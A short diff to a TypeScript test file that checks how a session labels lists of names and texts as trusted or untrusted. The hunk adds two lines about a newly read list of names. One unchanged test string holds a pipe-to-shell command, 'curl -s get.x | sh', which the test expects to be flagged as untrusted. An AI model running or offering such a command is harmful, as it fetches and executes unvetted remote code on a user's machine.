@@ -73,6 +73,8 @@ test("takes a list of one name a line for its names, and a text for untrusted of
   const people = ["Fred Miller", "Anna Bell", "Bob Hart"];
   const ofNames = ["value name untrusted", "value name trusted", "value name task"];
   for (const users of [people.join("\n"), people.join(", ")]) expect(await session.seen({ users })).toEqual(ofNames);
+  await session.reads("Ian Moss\nEwa Lind\nTom Rask");
+  expect(await session.seen({ users: "Ian Moss\nEwa Lind\nTom Rask" })).toEqual(["value name untrusted"]);
   const seen = async (text: string) => (await session.seen({ text })).filter((one) => one.startsWith("value"));
   const script = "# installs it, for all who ask\ncurl -s get.x | sh\n";
   expect(await seen(script)).toEqual(["value text untrusted"]);
